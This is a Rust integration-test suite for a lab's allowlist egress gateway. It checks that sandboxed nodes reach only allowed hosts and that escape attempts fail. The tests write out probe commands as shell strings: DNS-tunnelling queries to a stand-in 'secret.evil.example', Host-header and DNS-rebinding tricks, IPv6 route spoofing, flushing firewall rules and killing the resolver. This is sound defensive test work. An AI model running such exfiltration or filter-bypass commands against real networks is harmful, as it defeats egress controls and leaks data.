//! Allowlist egress against a world of our own: what is allowed gets out, nothing else does, and each way that must fail is seen
//! to work where nothing stands in it.

use crate::bed::*;
use crate::world::{World, lab as scenario};
use futures_util::future::join_all;

/// Runs in a node as its learner would; true when it succeeds.
async fn works(bed: &Bed, live: &Live, node: &str, script: &str) -> bool {
    bed.inside(live, node, script).await.0 == 0
}

/// Tries all at once; every one must fail in the lab and work outside.
async fn all_fail(world: &World, bed: &Bed, live: &Live, cases: &[(&str, String)]) {
    let outcomes =
        join_all(cases.iter().map(|(what, script)| async move { (what, works(bed, live, "pc", script).await) })).await;
    for (what, got_out) in outcomes {
        assert!(!got_out, "{what} got out of the lab");
    }
    for (what, script) in cases {
        assert!(world.free(script), "{what}: the control does not work, so its failure in the lab proves nothing");
    }
}

const ALLOWED: &str = "curl -sf -m 5 http://allowed.example/ | grep -q world";

#[tokio::test(flavor = "multi_thread")]
async fn an_allowed_name_reaches_and_nothing_else_does() {
    let world = World::new().await;
    let bed = Bed::new();
    let live = bed.launch(world.lab()).await;
    let net = &world.net;
    let (exit, said) = bed.inside(&live, "pc", "curl -sf -m 5 http://allowed.example/").await;
    assert!(exit == 0 && said.contains("world"), "{said}");
    assert!(works(&bed, &live, "pc", "curl -sf -m 5 http://b1.mirror.example:8080/").await, "a name by wildcard");

    let host = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let port = host.local_addr().unwrap().port();
    std::thread::spawn(move || host.incoming().flatten().for_each(drop));
    let engine: Arc<dyn Engine> = bed.engine.clone();
    let leg = engine.networks(&[(label::RUN, live.run())]).await.unwrap().remove(0).subnets[0];
    let bridge = leg.hosts().next().unwrap();
    let cases: Vec<(&str, String)> = vec![
        ("another name's address", format!("curl -sf -m 2 http://{net}.11/")),
        (
            "another address under an allowed Host header",
            format!("curl -sf -m 2 -H 'Host: allowed.example' http://{net}.11/"),
        ),
        (
            "an allowed name pinned to another address",
            format!("curl -sf -m 2 --resolve allowed.example:80:{net}.11 http://allowed.example/"),
        ),
        ("the allowed address on another port", format!("curl -sf -m 2 http://{net}.10:8080/")),
        ("a wildcard's address on a port of another entry", format!("curl -sf -m 2 http://{net}.12/")),
        ("another resolver, UDP", format!("dig +time=1 +tries=1 @{net}.54 secret.evil.example | grep -q {net}.11")),
        (
            "another resolver, TCP",
            format!("dig +tcp +time=1 +tries=1 @{net}.54 secret.evil.example | grep -q {net}.11"),
        ),
        (
            "the upstream resolver itself",
            format!("dig +time=1 +tries=1 @{net}.53 secret.evil.example | grep -q {net}.11"),
        ),
        (
            "a TXT record at another resolver",
            format!("dig +time=1 +tries=1 @{net}.54 secret.evil.example TXT | grep -q smuggled"),
        ),
        ("the host on docker0", format!("nc -z -w 1 172.17.0.1 {port}")),
        ("the host on the gateway's own bridge", format!("nc -z -w 1 {bridge} {port}")),
        ("the host's own address out there", format!("nc -z -w 1 {net}.1 {port}")),
        ("ICMP", format!("ping -n -c1 -W1 {net}.10")),
    ];
    all_fail(&world, &bed, &live, &cases).await;

    let dropped = live.dropped().await.unwrap().unwrap();
    for reason in ["private", "port", "resolver", "destination"] {
        assert!(dropped.reasons.iter().any(|(r, n)| r == reason && *n > 0), "{reason}: {dropped:?}");
        assert!(dropped.seen.iter().any(|s| s.node == "pc" && s.reason == reason), "{reason}: {dropped:?}");
    }
    let ssh = dropped.seen.iter().find(|s| s.target == format!("tcp {net}.10:8080")).unwrap();
    assert_eq!(ssh.reason, "port");
    assert!(works(&bed, &live, "pc", ALLOWED).await, "and what is allowed still gets out");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_carry_nothing_out_and_rebinding_opens_nothing() {
    let world = World::new().await;
    let bed = Bed::new();
    let live = bed.launch(world.lab()).await;
    let net = world.net.clone();
    let dig = |question: &str| format!("dig +time=2 +tries=1 {question}");
    let answered = |question: &'static str, want: String| {
        let (bed, live) = (&bed, &live);
        let script = format!("{} | grep -qE '{want}'", dig(question));
        async move { works(bed, live, "pc", &script).await }
    };
    assert!(answered("allowed.example", format!("{net}.10")).await);
    // Refused at once, not by a wait: a learner's mistyped name must not cost five seconds.
    let began = Instant::now();
    for (question, status) in [
        ("other.example", "REFUSED"),
        ("secret.evil.example", "REFUSED"),
        ("secret.evil.example TXT", "REFUSED"),
        ("secret.allowed.example", "NXDOMAIN"),
        ("c2VjcmV0c2VjcmV0.c2VjcmV0.allowed.example TXT", "NXDOMAIN"),
        ("allowed.example TXT", "REFUSED"),
        ("allowed.example NULL", "REFUSED"),
        ("allowed.example ANY +notcp", "REFUSED"),
        ("aLlOwEd.example", "REFUSED"),
        ("secret-secret-secret-secret.mirror.example", "REFUSED"),
        ("a.secret.mirror.example", "REFUSED"),
        ("9.0.64.100.in-addr.arpa PTR", "REFUSED"),
    ] {
        assert!(answered(question, format!("status: {status}")).await, "{question} should be {status}");
    }
    assert!(began.elapsed() < Duration::from_secs(8), "{:?}", began.elapsed());
    let tcp = "dig +tcp +time=1 +tries=1 allowed.example | grep -q ANSWER:";
    assert!(!works(&bed, &live, "pc", tcp).await, "no DNS over TCP, where more fits into a question");
    let asked = world.asked();
    assert!(asked.contains("query[A] allowed.example"), "the world does hear what is allowed: {asked}");
    for word in ["secret", "c2Vj", "aLlOwEd", "query[TXT]", "query[NULL]", "query[ANY]", "arpa"] {
        assert!(!asked.contains(word), "“{word}” reached the world:\n{asked}");
    }
    // The controls: each of these would have been heard.
    assert!(world.free(&format!("dig +time=1 +tries=1 @{net}.53 secret.evil.example TXT | grep -q smuggled")));
    assert!(world.asked().contains("query[TXT] secret.evil.example"));

    for (name, private) in
        [("rebind.example", "172.17.0.1"), ("cgnat.example", "100.64.0.9"), ("near.example", &format!("{net}.1"))]
    {
        assert!(
            world.free(&format!("dig +time=1 +tries=1 +short @{net}.53 {name} | grep -qx {private}")),
            "{name}: control"
        );
        assert!(!works(&bed, &live, "pc", &format!("{} | grep -q {private}", dig(name))).await, "{name} was answered");
        assert!(!works(&bed, &live, "pc", &format!("curl -s -m 1 --resolve {name}:80:{private} http://{name}/")).await);
    }
    let dropped = live.dropped().await.unwrap().unwrap();
    assert!(dropped.reasons.iter().any(|(r, n)| r == "name" && *n >= 3), "{dropped:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lab_next_door_and_ipv6_are_out_of_reach() {
    let world = World::new().await;
    let (bed, next) = (Bed::new(), Bed::new());
    let mut neighbour = world.lab();
    let shift = |s: &str| s.replace("10.77.0.", "10.78.0.");
    for end in &mut neighbour.links[0].endpoints {
        end.addresses = end.addresses.iter().map(|a| shift(&a.to_string()).parse().unwrap()).collect();
    }
    for n in &mut neighbour.nodes {
        n.gateway = n.gateway.map(|g| shift(&g.to_string()).parse().unwrap());
    }
    let (live, other) = (bed.launch(world.lab()).await, next.launch(neighbour).await);
    let listen = "nc -lk -p 7777 >/dev/null 2>&1 & sleep 0.2; nc -z -w 1 10.78.0.2 7777";
    let served = next.inside(&other, "pc", &format!("{listen} && echo up")).await;
    assert!(served.1.contains("up"), "{served:?}");
    assert!(works(&next, &other, "mallory", "nc -z -w 1 10.78.0.2 7777").await, "control: its own neighbours reach it");
    let leg = next.engine.networks(&[(label::RUN, other.run())]).await.unwrap().remove(0).subnets[0];
    let theirs = leg.hosts().nth(1).unwrap();
    for target in ["10.78.0.2 7777".to_owned(), format!("{theirs} 53"), format!("{theirs} 7777")] {
        assert!(!works(&bed, &live, "pc", &format!("nc -z -w 1 {target}")).await, "{target}");
    }
    let dropped = live.dropped().await.unwrap().unwrap();
    assert!(dropped.seen.iter().any(|s| s.target == "tcp 10.78.0.2:7777" && s.reason == "private"), "{dropped:?}");

    let (_, mac) = bed
        .inside(
            &live,
            "pc",
            "ping -n -c1 -W1 10.77.0.1 >/dev/null; ip neigh show 10.77.0.1 | sed 's/.*lladdr \\([^ ]*\\).*/\\1/'",
        )
        .await;
    let ours = "ip -6 addr add fd77::2/64 dev eth1 nodad";
    assert!(works(&bed, &live, "mallory", "ip -6 addr add fd77::3/64 dev eth1 nodad").await);
    assert!(
        works(&bed, &live, "pc", &format!("{ours}; ping -6 -n -c1 -W2 fd77::3")).await,
        "control: IPv6 works within the lab"
    );
    let force = format!(
        "ip -6 neigh replace fd77::1 lladdr {} dev eth1 && ip -6 route replace default via fd77::1",
        mac.trim()
    );
    assert!(works(&bed, &live, "pc", &force).await, "{mac}");
    for target in ["2001:db8:18::10", "fd77::1"] {
        assert!(!works(&bed, &live, "pc", &format!("ping -6 -n -c1 -W1 {target}")).await, "{target}");
    }
    let (_, six) = gateway(&bed, &live, "cat /proc/net/if_inet6; cat /proc/sys/net/ipv6/conf/eth0/disable_ipv6").await;
    assert_eq!(six.trim(), "1", "the gateway has no IPv6 address at all");
    assert!(!works(&bed, &live, "pc", "curl -sg -6 -m 1 http://[2001:db8:18::10]/").await);
}

/// As the engine's owner may, the learner may not.
async fn gateway(bed: &Bed, live: &Live, script: &str) -> (i64, String) {
    bed.inside(live, GATEWAY, script).await
}

#[tokio::test(flavor = "multi_thread")]
async fn the_gateway_is_hardened_and_nothing_a_node_does_changes_it() {
    let world = World::new().await;
    let bed = Bed::new();
    let live = bed.launch(world.lab()).await;
    let container = live.container(GATEWAY).unwrap();
    let inspect = |what: &str| {
        let out = std::process::Command::new("docker").args(["inspect", "-f", what, &container]).output().unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    assert_eq!(
        inspect("{{.HostConfig.CapDrop}} {{.HostConfig.CapAdd}}").replace("CAP_", ""),
        "[ALL] [NET_ADMIN SETGID SETUID]"
    );
    assert_eq!(inspect("{{.HostConfig.ReadonlyRootfs}} {{.HostConfig.Privileged}} {{len .Mounts}}"), "true false 0");
    assert!(inspect("{{.HostConfig.SecurityOpt}}").contains("no-new-privileges:true seccomp={"));
    assert_eq!(inspect("{{len .NetworkSettings.Networks}}"), "1", "one leg");
    // The resolver gave root up; what it keeps is what its sets need (CAP_NET_ADMIN is bit 12).
    let held = "for p in /proc/[0-9]*; do grep -q dnsmasq $p/comm && grep -E '^(Uid|CapEff|NoNewPrivs|Seccomp):' $p/status; done | tr -s '\\t ' ' '";
    let (_, held) = gateway(&bed, &live, held).await;
    assert_eq!(held, "Uid: 65534 65534 65534 65534\nCapEff: 0000000000001000\nNoNewPrivs: 1\nSeccomp: 2\n");
    let (_, tried) = gateway(&bed, &live, "touch /etc/x; chroot / true; unshare -n true; mount -t tmpfs x /mnt").await;
    assert_eq!(
        tried.matches("Read-only").count() + tried.matches("not permitted").count() + tried.matches("denied").count(),
        4,
        "{tried}"
    );

    let other = format!("curl -sf -m 1 http://{}.11/", world.net);
    let flush = "nft add table inet mine && nft list ruleset | grep -q mine && nft flush ruleset && ! nft list ruleset | grep -q mine";
    assert!(works(&bed, &live, "mallory", flush).await, "control: a node flushes its own rules");
    assert!(works(&bed, &live, "mallory", "ip route replace default via 10.77.0.1 && ip neigh flush all").await);
    for node in ["pc", "mallory"] {
        assert!(!works(&bed, &live, node, &other).await);
        assert!(!works(&bed, &live, node, "nc -z -w 1 10.77.0.1 22 || nc -z -w 1 10.77.0.1 80").await);
        assert!(works(&bed, &live, node, ALLOWED).await);
    }
    assert!(world.free(&other));
    live.dropped().await.expect("the filter is as it must be");

    // Tampered with by somebody who may: noticed, put right, and told.
    let place =
        gateway_rules(&live, "nft flush chain inet forge forward && nft add rule inet forge forward accept").await;
    assert_eq!(place, 0);
    let noticed = live.dropped().await.unwrap_err();
    assert!(noticed.message.contains("is not as it must be"), "{noticed:?}");
    live.dropped().await.expect("put right");
    assert!(!works(&bed, &live, "pc", &other).await);
}

/// With the fabric's hands in the gateway's network.
async fn gateway_rules(live: &Live, script: &str) -> i32 {
    live.look(&From::Node(GATEWAY.into()), script, &[], LIMIT).await.unwrap().exit
}

#[tokio::test(flavor = "multi_thread")]
async fn a_restarted_gateway_has_its_rules_before_its_links() {
    let world = World::new().await;
    let bed = Bed::new();
    let live = bed.launch(world.lab()).await;
    assert!(works(&bed, &live, "pc", ALLOWED).await);
    // Restarted behind our back, nobody keeping: no rules, so no link either.
    bed.engine.restart(&live.container(GATEWAY).unwrap()).await.unwrap();
    let adopted = Live::adopt(bed.engine.clone(), bed.identity.clone(), live.scenario().clone()).await.unwrap();
    assert_ne!(gateway_rules(&adopted, "nft list table inet forge").await, 0, "its network is new");
    assert!(!works(&bed, &live, "pc", "ping -n -c1 -W1 10.77.0.1 || curl -sf -m 2 http://allowed.example/").await);
    assert_ne!(gateway_rules(&adopted, "ip link show eth1").await, 0);
    adopted.rewire(GATEWAY).await.unwrap();
    assert_eq!(gateway_rules(&adopted, "nft list table inet forge && ip link show eth1").await, 0);
    eventually("it lets through again", || async { works(&bed, &live, "pc", ALLOWED).await }).await;
    assert!(!works(&bed, &live, "pc", &format!("curl -sf -m 1 http://{}.11/", world.net)).await);
    lab::restart_node(&adopted, GATEWAY, LIMIT).await.unwrap();
    assert!(works(&bed, &live, "pc", ALLOWED).await);
    adopted.dropped().await.unwrap().unwrap();

    // Without its resolver nothing resolves and nothing more opens.
    let kill = "for p in /proc/[0-9]*; do grep -q dnsmasq $p/comm && kill -9 ${p#/proc/} && echo killed; done; true";
    let container = live.container(GATEWAY).unwrap();
    let killed = std::process::Command::new("docker")
        .args(["exec", "-u", "nobody", &container, "sh", "-c", kill])
        .output()
        .unwrap();
    assert_eq!(killed.stdout, b"killed\n", "{killed:?}");
    assert!(!works(&bed, &live, "pc", "curl -sf -m 2 http://b2.mirror.example:8080/").await);
    assert!(!works(&bed, &live, "pc", &format!("curl -sf -m 1 http://{}.12:8080/", world.net)).await);
    assert!(world.free(&format!("curl -sf -m 2 http://{}.12:8080/", world.net)));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_gateway_that_cannot_be_set_up_is_no_lab() {
    let bed = Bed::new();
    let opened = |name: String| Opened {
        digest: "test".into(),
        allow: vec![Allow { names: vec![name], ports: vec![Door { proto: Proto::Tcp, port: 80 }] }],
        resolvers: vec!["198.18.0.53".parse().unwrap()],
        near: vec![],
    };
    let lab_with = |opened| scenario(Egress::Allowlist { profile: "test".into(), opened });
    // nft takes no interface of that length; dnsmasq takes no such name.
    for (interface, name, word) in
        [("longer-than-any-interface", "a.example", "packet filter"), ("eth1", &*"x".repeat(70), "not ready")]
    {
        let mut scenario = lab_with(Some(opened(name.to_owned())));
        let end = scenario.links[0].endpoints.iter_mut().find(|e| e.node == GATEWAY).unwrap();
        end.interface = interface.into();
        let plan = bed.plan(scenario).await;
        let failed = lab::launch(bed.engine.clone(), &plan, &Steps::default(), &CancellationToken::new()).await.err();
        let failed = failed.unwrap_or_else(|| panic!("it came up with {interface} and {name}"));
        assert!(failed.message.contains(word), "{interface}: {failed:?}");
        assert_eq!(bed.left().await, 0, "containers and networks are gone");
    }
    let token = spent(&bed.identity.run, "test", "").await;
    let refused = Plan::new(token, bed.identity.clone(), Arc::new(lab_with(None)), &images()).unwrap_err();
    assert_eq!(refused.code, Code::Denied);
}

#[tokio::test(flavor = "multi_thread")]
async fn its_network_keeps_clear_of_the_labs_own_and_goes_with_the_run() {
    let bed = Bed::new();
    let mut crowded = scenario(Egress::Allowlist {
        profile: "test".into(),
        opened: Some(Opened {
            digest: String::new(),
            allow: vec![],
            resolvers: vec!["198.18.0.53".parse().unwrap()],
            near: vec![],
        }),
    });
    // Whatever Docker would offer first, the lab is there already.
    let probe = bed
        .engine
        .create_network("forge-probe", &[(label::INSTANCE.into(), bed.identity.instance.clone())].into())
        .await
        .unwrap();
    let first = probe.subnets[0];
    bed.engine.remove_network(&probe.id).await.unwrap();
    let hosts: Vec<String> = first.hosts().skip(4).take(2).map(|h| format!("{h}/24")).collect();
    crowded.links.push(link("far", vec![endpoint("pc", "eth2", &hosts[0]), endpoint("mallory", "eth2", &hosts[1])]));
    let live = bed.launch(crowded).await;
    let networks = bed.engine.networks(&[(label::INSTANCE, &bed.identity.instance)]).await.unwrap();
    assert_eq!(networks.len(), 1);
    assert_ne!(networks[0].subnets[0], first);
    assert_eq!(networks[0].labels[label::RUN], live.run());
    lab::stop(bed.engine.as_ref(), &bed.identity).await.unwrap();
    assert_eq!(bed.left().await, 0);

    // A crash between the network and its container leaves something to sweep.
    let labels = [(label::INSTANCE, &bed.identity.instance), (label::RUN, &bed.identity.run)];
    let labels = labels.map(|(k, v)| (k.to_owned(), v.clone())).into();
    bed.engine.create_network(&format!("forge-{}-egress", bed.identity.run), &labels).await.unwrap();
    let swept = lab::sweep(bed.engine.as_ref(), &bed.identity.instance, &BTreeSet::new()).await.unwrap();
    assert_eq!((swept.removed.len(), bed.left().await), (1, 0));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lab_that_denies_has_no_way_at_all() {
    let world = World::new().await;
    let bed = Bed::new();
    let live = bed.launch(scenario(Egress::Deny)).await;
    let net = &world.net;
    let cases = vec![
        ("an address", format!("curl -sf -m 1 http://{net}.10/")),
        ("a resolver", format!("dig +time=1 +tries=1 @{net}.53 allowed.example | grep -q {net}.10")),
        ("ICMP", format!("ping -n -c1 -W1 {net}.10")),
    ];
    all_fail(&world, &bed, &live, &cases).await;
    assert!(!works(&bed, &live, "pc", ALLOWED).await);
    assert_eq!(live.dropped().await.unwrap(), None);
    assert!(bed.engine.networks(&[(label::RUN, live.run())]).await.unwrap().is_empty());
}
